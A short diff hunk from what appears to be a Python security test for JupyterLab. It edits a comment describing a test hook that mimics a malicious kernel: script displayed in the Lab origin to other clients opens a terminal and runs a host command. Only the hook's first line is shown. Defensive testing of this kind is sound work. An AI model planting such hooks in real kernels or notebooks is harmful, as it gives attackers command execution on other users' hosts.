@@ -36,7 +36,7 @@ ROOT = Path(__file__).resolve().parents[1]
 PLAYWRIGHT = ROOT / ".ci" / "node" / "node_modules" / "playwright-core"
 DRIVER = Path(__file__).with_name("lab_browser.mjs")
 
-# The attack of issue 12, as a kernel would plant it: on the next cell run by any client but the
+# Script in Lab's origin, as a kernel would plant it: on the next cell run by any client but the
 # agent's, display script that opens a terminal in the Lab origin and runs a host command.
 HOOK = r"""
 _mine = get_ipython().kernel.get_parent()["header"]["session"]
